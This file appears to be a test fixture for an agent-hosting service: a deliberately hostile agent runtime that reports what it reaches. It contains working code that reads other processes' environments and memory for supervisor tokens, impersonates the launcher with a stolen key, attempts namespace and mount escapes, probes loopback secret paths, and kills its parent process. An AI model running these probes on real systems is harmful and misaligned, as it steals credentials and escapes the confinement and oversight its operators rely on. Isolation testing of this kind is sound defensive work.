// A runtime that searches for its supervisor's tokens wherever a program could, and for ways to replace the supervisor.
// It answers each prompt with its findings as JSON; on the word "kill" it first ends its launcher, once.
import { spawnSync } from 'node:child_process'
import { existsSync, readdirSync, readFileSync, readlinkSync, statSync, writeFileSync } from 'node:fs'
import { connect } from 'node:net'
import { join } from 'node:path'

const { BERTH_LOOPBACK, BERTH_LOOPBACK_KEY, BERTH_VOLUME, HIDDEN, MEETING } = process.env
const headers = { authorization: `Bearer ${BERTH_LOOPBACK_KEY}`, 'content-type': 'application/json' }
process.stdin.resume().on('close', () => process.exit(1))
process.on('SIGTERM', () => process.exit(0))

const tokens = new Set()
const where = {}
const reached = []

function search(place, text) {
  for (const [token] of text.matchAll(/bmt_(llm|files|agent)\.[\w-]+\.[\w-]+/g)) {
    tokens.add(token)
    where[token.slice(0, 24)] = place
  }
}

/** @returns the file's text; an empty text when it cannot be read */
function read(path, encoding = 'latin1') {
  try {
    return readFileSync(path, encoding)
  } catch {
    return ''
  }
}

function walk(folder, depth, visit) {
  let names = []
  try {
    names = readdirSync(folder, { withFileTypes: true })
  } catch {}
  for (const entry of names) {
    const path = join(folder, entry.name)
    if (entry.isDirectory() && depth > 0) walk(path, depth - 1, visit)
    else if (entry.isFile()) visit(path)
  }
}

const searchFiles = (folder, depth) =>
  walk(folder, depth, (path) => {
    if (statSync(path).size < 32 * 1024 * 1024) search(path, read(path))
  })

function searchProcesses() {
  const pids = readdirSync('/proc').filter((name) => /^\d+$/.test(name))
  for (const pid of pids) {
    for (const file of ['environ', 'cmdline', 'status', 'stack'])
      search(`/proc/${pid}/${file}`, read(`/proc/${pid}/${file}`))
    if (Number(pid) !== process.pid) searchMemory(pid)
    for (const way of ['root', 'cwd']) searchFiles(join('/proc', pid, way, HIDDEN), 6)
    if (/agent\/main\.ts/.test(read(`/proc/${pid}/cmdline`))) reached.push(`sees the supervisor as ${pid}`)
  }
  return pids.length
}

/** Searches memory as a debugger would. */
function searchMemory(pid) {
  const script = `import re,sys
for line in open('/proc/${pid}/maps'):
  a,b=[int(x,16) for x in line.split()[0].split('-')]
  if 'rw' not in line.split()[1] or b-a>2**28: continue
  try:
    m=open('/proc/${pid}/mem','rb'); m.seek(a)
    for t in re.findall(rb'bmt_(?:llm|files|agent)\\.[\\w-]+\\.[\\w-]+', m.read(b-a)): print(t.decode())
  except Exception: pass`
  search(`/proc/${pid}/mem`, spawnSync('python3', ['-c', script], { encoding: 'latin1' }).stdout ?? '')
}

/** Processes that it could signal, except its own. */
function signal() {
  const own = new Set(readdirSync('/proc').filter((name) => /^\d+$/.test(name)))
  for (let pid = 2; pid < 70_000; pid++) {
    try {
      process.kill(pid, 0)
      // Its own threads answer, too.
      if (!own.has(String(pid)) && !existsSync(`/proc/${process.pid}/task/${pid}`) && !existsSync(`/proc/${pid}`))
        reached.push(`may signal ${pid}`)
    } catch {}
  }
}

/** Connects to the supervisor as its launcher, with the launcher's own key. */
async function impersonate() {
  const key = /BERTH_LAUNCHER_KEY=([\w-]+)/.exec(
    readdirSync('/proc')
      .map((pid) => read(`/proc/${pid}/environ`))
      .join('\0'),
  )?.[1]
  const [host, port] = MEETING.split(':')
  const said = await new Promise((resolve) => {
    const socket = connect(Number(port), host, () => socket.write(`${JSON.stringify({ kind: 'launcher', key })}\n`))
    let got = ''
    socket.on('data', (part) => (got += part))
    socket.on('error', ({ code }) => resolve(code))
    socket.on('close', () => resolve(got || 'closed'))
    setTimeout(() => resolve(got || 'open'), 1_000)
  })
  if (!['ECONNREFUSED', 'closed'].includes(said)) reached.push(`is heard as the launcher: ${said}`)
  return Boolean(key)
}

/** Ways out of its own view of the file system. */
function breakOut() {
  const ways = [
    `umount ${HIDDEN}`,
    `unshare -Um sh -c 'umount -l ${HIDDEN}; cat ${HIDDEN}/tasks.json'`,
    `unshare -Urm sh -c 'umount -l ${HIDDEN}; mount -t proc proc /proc; cat ${HIDDEN}/tasks.json /proc/*/environ'`,
    'nsenter -t 1 -m -p cat /proc/1/environ',
    `cat ${HIDDEN}/tasks.json ${HIDDEN}/secrets.json`,
    'cat /proc/*/environ /proc/*/task/*/environ',
    'setpriv --inh-caps=+all cat /proc/1/environ',
  ]
  for (const way of ways) {
    const { stdout } = spawnSync('/bin/sh', ['-c', way], { encoding: 'latin1', timeout: 10_000 })
    search(way, stdout ?? '')
    if (/tokenKeys|"current"/.test(stdout ?? '')) reached.push(`reads the service's keys by ${way}`)
  }
}

async function askLoopback() {
  for (const path of [
    '/agent/files',
    '/agent/secrets',
    '/agent/prompt?wait=0',
    '/llm/proxy/v1/models',
    '/secrets',
    '/../agent/secrets',
  ]) {
    const answer = await fetch(BERTH_LOOPBACK + path, { headers })
    search(path, `${JSON.stringify([...answer.headers])}${await answer.text()}`)
  }
}

async function ask(path, body) {
  const response = await fetch(BERTH_LOOPBACK + path, {
    method: body ? 'POST' : 'GET',
    headers,
    body: body && JSON.stringify(body),
  })
  return response.json()
}

async function look() {
  search('its own environment', JSON.stringify(process.env))
  const processes = searchProcesses()
  signal()
  breakOut()
  for (const folder of [BERTH_VOLUME, HIDDEN, '/dev/shm', '/run', process.env.HOME]) searchFiles(folder, 6)
  const hadKey = await impersonate()
  await askLoopback()
  return { tokens: [...tokens], where, reached, processes, hadKey, cwd: readlinkSync('/proc/self/cwd') }
}

for (;;) {
  const { prompt } = await ask('/agent/prompt?wait=20')
  if (!prompt) continue
  const marker = join(BERTH_VOLUME, 'state', 'killed')
  if (prompt.text === 'kill' && !existsSync(marker)) {
    writeFileSync(marker, '')
    process.kill(process.ppid, 'SIGKILL')
    await new Promise(() => {})
  }
  const found = await look()
  await ask('/agent/observe', { kind: 'reply', promptId: prompt.id, text: JSON.stringify(found) })
  await ask('/agent/feedback', { promptId: prompt.id, outcome: 'completed' })
}
